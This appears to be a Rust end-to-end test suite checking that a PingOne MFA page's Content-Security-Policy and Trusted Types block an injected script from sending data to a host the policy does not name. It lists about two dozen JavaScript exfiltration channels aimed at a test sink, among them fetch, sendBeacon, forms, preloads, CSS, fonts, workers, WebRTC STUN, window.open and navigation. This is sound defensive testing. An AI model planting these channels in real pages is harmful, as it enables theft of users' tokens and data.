//! Assume the worst: somebody's script runs in the page, in its own realm, with everything that the page has. What can it
//! send to a host that the policy doesn't name?

use std::time::Duration;

use pingone_mfa_e2e::{Page, Portal, TrafficLog, World};
use pingone_sandbox::TokenSpec;
use pingone_sandbox::page::config_json;
use serde_json::{Value, json};

/// Ways that the policy closes. `url` is at the host; nothing here leaves the page, so that one follows the other.
const CLOSED: [(&str, &str); 22] = [
    ("fetch", "fetch(url, { mode: 'no-cors' })"),
    ("fetch-keepalive", "fetch(url, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })"),
    ("xhr", "const request = new XMLHttpRequest(); request.open('GET', url); request.send();"),
    ("beacon", "navigator.sendBeacon(url, 'x')"),
    ("image", "new Image().src = url"),
    ("websocket", "new WebSocket(url.replace('http', 'ws'))"),
    ("eventsource", "new EventSource(url)"),
    (
        "form",
        "const frame = add('iframe', { name: 'sink' }); add('form', { action: url, method: 'post', target: 'sink' }).submit();",
    ),
    ("prefetch", "add('link', { rel: 'prefetch', href: url })"),
    ("preload", "add('link', { rel: 'preload', as: 'image', href: url })"),
    ("modulepreload", "add('link', { rel: 'modulepreload', href: url })"),
    ("stylesheet", "add('link', { rel: 'stylesheet', href: url })"),
    (
        "css-url",
        "const sheet = new CSSStyleSheet(); sheet.replaceSync(`html { background-image: url(${url}) }`); document.adoptedStyleSheets = [sheet];",
    ),
    ("font", "new FontFace('sink', `url(${url})`).load()"),
    ("script", "add('script', { src: url })"),
    ("import", "import(url)"),
    ("worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${url}', { mode: 'no-cors' })`])))"),
    ("iframe", "add('iframe', { src: url })"),
    ("object", "add('object', { data: url })"),
    ("embed", "add('embed', { src: url })"),
    ("video", "add('video', { src: url, preload: 'auto' }).load()"),
    ("ping", "add('a', { href: '#', ping: url }).click()"),
];

/// Ways that no policy closes in any browser: whoever owns the page's realm can go elsewhere with it.
const OPEN: [(&str, &str); 2] = [("window-open", "window.open(url)"), LEAVING];

/// A little later, because whoever runs the script wants to hear its end.
const LEAVING: (&str, &str) = ("navigation", "setTimeout(() => { location.href = url; }, 300)");

const ADD: &str = "const add = (name, attributes) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) {
      if (key in element) element[key] = value; else element.setAttribute(key, value);
    }
    return document.body.appendChild(element);
  };";

/// Runs one attempt. What it throws, or what it is refused by, is of no interest: what arrives is.
async fn attempt(page: &Page, traffic_log: &TrafficLog, (name, code): (&str, &str)) {
    let script = format!(
        "const [origin, done] = arguments; const url = `${{origin}}/{name}`; {ADD}
        setTimeout(done, 150);
        (async () => {{ {code} }})().catch(() => {{}});"
    );
    page.ask(&script, vec![json!(traffic_log.origin)]).await.expect("the script runs");
}

async fn attempt_all(page: &Page, traffic_log: &TrafficLog) {
    for closed in CLOSED {
        attempt(page, traffic_log, closed).await;
    }
    tokio::time::sleep(Duration::from_secs(2)).await;
}

/// Asks a host for its address on the network, as a call would.
async fn call(page: &Page, traffic_log: &TrafficLog) {
    let script = "const [host, done] = arguments; setTimeout(done, 2500);
        const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
        call.createDataChannel(''); call.setLocalDescription();";
    page.ask(script, vec![json!(traffic_log.datagrams)]).await.expect("the script runs");
}

/// Without this everything below would be true of a host that can't count.
#[tokio::test(flavor = "multi_thread")]
async fn where_no_policy_stands_in_the_way_every_attempt_arrives() {
    let world = World::with_users(1).await;
    let page = world.visit(&world.bare_page().await).await;
    let traffic_log = TrafficLog::listen();
    attempt_all(&page, &traffic_log).await;
    let lost: Vec<_> =
        CLOSED.iter().map(|(name, _)| *name).filter(|name| traffic_log.arrivals(name) == 0).collect();
    assert_eq!(lost, Vec::<&str>::new(), "arrived: {:?}", traffic_log.asked());
    call(&page, &traffic_log).await;
    assert!(traffic_log.datagrams() > 0, "a call's datagrams arrive at {}", traffic_log.datagrams);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_in_the_page_sends_nothing_to_a_host_that_the_policy_does_not_name() {
    let world = World::with_users(5).await;
    let page = world.open().await;
    page.connect(&world.token(&TokenSpec::default())).await;
    page.hear("5 users. List read").await;
    let traffic_log = TrafficLog::listen();
    attempt_all(&page, &traffic_log).await;
    assert_eq!(traffic_log.asked(), Vec::<String>::new());
    // The page is unharmed, and it was the policy that stood in the way.
    page.press("switch", "MFA for jonas.brandt").await;
    page.wait_for_switch("MFA for jonas.brandt", true).await;
    let refusals = world.complaints(false).await;
    for directive in ["connect-src", "img-src", "style-src", "script-src", "frame-src", "default-src"] {
        assert!(refusals.iter().any(|line| line.contains(directive)), "{directive} in {refusals:#?}");
    }
    assert!(refusals.iter().any(|line| line.contains("TrustedScriptURL")), "{refusals:#?}");
}

/// What SECURITY.md says is open, is: if a browser learns to close it, this says so.
#[tokio::test(flavor = "multi_thread")]
async fn what_no_policy_can_forbid_is_exactly_what_the_documents_name() {
    let world = World::with_users(1).await;
    let page = world.open().await;
    page.see("password", "Access token").await;
    let traffic_log = TrafficLog::listen();
    call(&page, &traffic_log).await;
    assert!(traffic_log.datagrams() > 0, "WebRTC has learnt to heed the policy: change SECURITY.md");
    // A name is looked up and connected to, and nothing is asked. A frame that is refused can have the same effect.
    let before = traffic_log.connections();
    attempt(&page, &traffic_log, ("preconnect", "add('link', { rel: 'preconnect', href: url })")).await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert!(traffic_log.connections() > before, "preconnect is closed now: change SECURITY.md");
    assert_eq!(traffic_log.arrivals("preconnect"), 0);
    for open in OPEN {
        attempt(&page, &traffic_log, open).await;
        tokio::time::sleep(Duration::from_secs(1)).await;
        assert!(traffic_log.arrivals(open.0) > 0, "{} is closed now: change SECURITY.md", open.0);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_in_the_frame_sends_nothing_and_can_not_leave_either() {
    let portal = Portal::new().await;
    let origin = portal.origin.clone();
    let ancestors = serde_json::to_string(&[&origin]).expect("a list has a JSON form");
    let keys = format!(r#"{{"frameAncestors":{ancestors},"tokenSources":["host"],"#);
    let world = World::start(5, move |api| config_json(api).replacen('{', &keys, 1)).await;
    let policy = "Content-Security-Policy: frame-ancestors";
    world.release.rewrite_headers(&format!("{policy} 'none'"), &format!("{policy} {origin}"));
    let backend = portal.serve(&world, |script| script);
    backend.give(&world.token(&TokenSpec::default()));
    let page = world.visit(&origin).await;
    page.enter_frame().await;
    page.hear("5 users. List read").await;
    assert_eq!(page.ask(TRUSTED, vec![]).await.expect("the script runs"), every_one());
    let traffic_log = TrafficLog::listen();
    attempt_all(&page, &traffic_log).await;
    assert_eq!(traffic_log.asked(), Vec::<String>::new());
    // The portal's frame-src holds the frame where it is.
    attempt(&page, &traffic_log, LEAVING).await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(traffic_log.asked(), Vec::<String>::new());
}

/// One policy may make addresses of scripts from text, and only of the clock worker's.
const TRUSTED: &str = "const [done] = arguments;
    const refused = (attempt) => { try { attempt(); return false; } catch (problem) { return problem instanceof TypeError; } };
    done({
      html: refused(() => { document.createElement('div').innerHTML = '<b>text</b>'; }),
      write: refused(() => document.write('text')),
      worker: refused(() => new Worker('tick.js')),
      script: refused(() => { document.createElement('script').src = 'boot.js'; }),
      another: refused(() => trustedTypes.createPolicy('another', {})),
      default: refused(() => trustedTypes.createPolicy('default', {})),
      again: refused(() => trustedTypes.createPolicy('pingone-mfa', {})),
      noDefault: trustedTypes.defaultPolicy === null,
    });";

fn every_one() -> Value {
    let names = ["html", "write", "worker", "script", "another", "default", "again", "noDefault"];
    names
        .into_iter()
        .map(|name| (name.to_owned(), Value::Bool(true)))
        .collect::<serde_json::Map<_, _>>()
        .into()
}

#[tokio::test(flavor = "multi_thread")]
async fn no_text_becomes_code_and_no_second_policy_is_made() {
    let world = World::with_users(1).await;
    let page = world.open().await;
    page.see("password", "Access token").await;
    assert_eq!(page.ask(TRUSTED, vec![]).await.expect("the script runs"), every_one());
    let bare = world.visit(&world.bare_page().await).await;
    let nothing = bare.ask(TRUSTED, vec![]).await.expect("the script runs");
    assert_eq!(nothing["html"], Value::Bool(false), "without the policy nothing is refused: {nothing}");
}
